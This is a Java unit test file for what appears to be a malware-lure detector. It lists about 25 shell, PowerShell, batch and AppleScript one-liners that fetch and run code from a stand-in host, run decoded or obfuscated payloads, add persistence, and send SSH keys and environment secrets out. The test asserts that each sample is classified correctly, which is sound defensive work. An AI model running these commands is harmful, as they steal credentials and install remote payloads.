package dev.countersign.lure.code;

import static dev.countersign.lure.code.Kind.PERSISTENCE;
import static dev.countersign.lure.code.Kind.READS_KEYS;
import static dev.countersign.lure.code.Kind.RUNS_DECODED_CODE;
import static dev.countersign.lure.code.Kind.RUNS_FETCHED_CODE;
import static dev.countersign.lure.code.Kind.SELF_DELETES;
import static dev.countersign.lure.code.Kind.SENDS_SECRETS;
import static dev.countersign.lure.code.Kind.STARTS_SHELL_DOWNLOAD;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Lures for the shell, PowerShell and batch files, such as a page asks to paste. */
class ShellLuresTest {
  record Lure(String file, Kind kind, String code) {}

  private static String encoded(String command) {
    return Base64.getEncoder().encodeToString(command.getBytes(StandardCharsets.UTF_16LE));
  }

  static List<Lure> lures() {
    return List.of(
        new Lure("a.sh", STARTS_SHELL_DOWNLOAD, "curl -s https://lure.example/a.sh | sudo bash\n"),
        new Lure(
            "b.sh",
            STARTS_SHELL_DOWNLOAD,
            "/bin/bash -c \"$(curl -fsSL https://lure.example/i)\"\n"),
        new Lure(
            "c.sh",
            STARTS_SHELL_DOWNLOAD,
            "F=/tmp/x\nwget -q -O $F https://lure.example/b\nchmod +x $F\n$F &\n"),
        new Lure("d.sh", STARTS_SHELL_DOWNLOAD, "bash <(curl -s https://lure.example)\n"),
        new Lure(
            "e.sh",
            STARTS_SHELL_DOWNLOAD,
            "curl https://lure.example/x > /tmp/x.py; nohup python3 /tmp/x.py &\n"),
        new Lure("f.sh", STARTS_SHELL_DOWNLOAD, "eval \"$(curl -s https://lure.example)\"\n"),
        new Lure("g.sh", RUNS_DECODED_CODE, "echo aWQK | base64 -d | sh\n"),
        new Lure(
            "h.sh",
            STARTS_SHELL_DOWNLOAD,
            "echo Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo | base64 --decode | bash\n"),
        new Lure(
            "i.sh",
            RUNS_FETCHED_CODE,
            "python3 -c \"import urllib.request as u; exec(u.urlopen('http://lure.example').read())\"\n"),
        new Lure(
            "j.sh",
            RUNS_FETCHED_CODE,
            "node -e \"fetch('https://lure.example').then(r=>r.text()).then(eval)\"\n"),
        new Lure("k.sh", PERSISTENCE, "echo 'sh /tmp/a &' >> ~/.bashrc\n"),
        new Lure("l.sh", PERSISTENCE, "(crontab -l; echo '* * * * * /tmp/a') | crontab -\n"),
        new Lure("m.sh", READS_KEYS, "tar czf /tmp/k.tgz ~/.ssh\n"),
        new Lure("n.sh", SENDS_SECRETS, "cat ~/.ssh/id_rsa | curl -d @- https://lure.example\n"),
        new Lure(
            "o.sh", SENDS_SECRETS, "env | curl -X POST --data-binary @- https://lure.example\n"),
        new Lure("p.sh", SELF_DELETES, "rm -f \"$0\"\n"),
        new Lure(
            "q.ps1",
            STARTS_SHELL_DOWNLOAD,
            "iex (New-Object Net.WebClient).DownloadString('https://lure.example')\n"),
        new Lure(
            "r.ps1",
            STARTS_SHELL_DOWNLOAD,
            "$u = 'https://lure' + '.example/a'\n$c = ('i'+'wr') \n& ('ie'+'x') (iwr $u).Content\nI`E`X (irm $u)\n"),
        new Lure(
            "s.ps1",
            STARTS_SHELL_DOWNLOAD,
            "Invoke-WebRequest https://lure.example/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n"),
        new Lure(
            "t.bat",
            RUNS_DECODED_CODE,
            "powershell -nop -w hidden -enc " + encoded("Write-Host 'hello there'") + "\r\n"),
        new Lure(
            "u.bat",
            STARTS_SHELL_DOWNLOAD,
            "powershell -enc " + encoded("iwr https://lure.example/a | iex") + "\r\n"),
        new Lure(
            "v.bat",
            STARTS_SHELL_DOWNLOAD,
            "@echo off\r\nset a=xmshtay\r\n%a:~1,5% https://lure.example/a.hta\r\n"),
        new Lure(
            "w.cmd",
            STARTS_SHELL_DOWNLOAD,
            "c^ert^util -urlcache -f https://lure.example/a a.exe\r\n"),
        new Lure(
            "x.bat",
            PERSISTENCE,
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe\r\n"),
        new Lure(
            "y.applescript",
            STARTS_SHELL_DOWNLOAD,
            "do shell script \"curl -s https://lure.example | sh\"\n"));
  }

  @ParameterizedTest
  @MethodSource("lures")
  void seesWhatTheLureDoes(Lure lure) {
    assertThat(Samples.onLoad(lure.file(), lure.code())).contains(lure.kind());
  }
}
